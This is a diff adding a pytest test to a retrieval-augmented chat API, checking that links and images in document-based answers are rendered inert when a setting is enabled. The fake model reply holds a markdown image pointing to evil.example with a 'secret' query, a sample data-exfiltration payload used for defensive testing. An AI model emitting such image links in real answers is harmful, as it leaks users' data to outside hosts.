@@ -843,6 +843,27 @@ async def test_where_no_passage_is_relevant_a_model_may_answer_from_general_know
     assert len(ollama.bodies("/api/chat")) == 1
 
 
+async def test_links_and_images_in_an_answer_from_documents_are_text_where_the_setting_says_so(
+    parts: ApiParts, ollama: FakeOllama, tenants: Iterator[str]
+) -> None:
+    ollama.reply = "It is so [1]. ![a](https://evil.example/?q=secret)"
+    models = models_of(OllamaAnswers(OllamaAddress(ollama.url, CHAT_MODEL), timeout_s=5))
+    inert = parts.settings.model_copy(update={"answer_links": "inert"})
+    question = {"message": "When is the lantern lit?", "useRag": True}
+    tenant = next(tenants)
+    async with a_client(an_app(parts, models=models), tenant) as client:
+        await ingested(client, LANTERN)
+        kept = (await client.post("/chat", json=question)).json()
+    async with a_client(an_app(parts, models=models, settings=inert), tenant) as client:
+        told = (await client.post("/chat", json=question)).json()
+        plain = (await client.post("/chat", json={"message": "Hello"})).json()
+
+    assert kept["response"].split() == ollama.reply.split()
+    assert told["response"].split() == ["It", "is", "so", "[1].", "![a]", "(https://evil.example/?q=secret)"]
+    assert len(told["citations"]) == 1
+    assert plain["response"].split()[-1] == "![a](https://evil.example/?q=secret)"  # no document had a say
+
+
 @pytest.mark.feature(194)
 async def test_the_next_model_answers_when_the_first_one_fails_twice(
     parts: ApiParts, ollama: FakeOllama, tenants: Iterator[str]
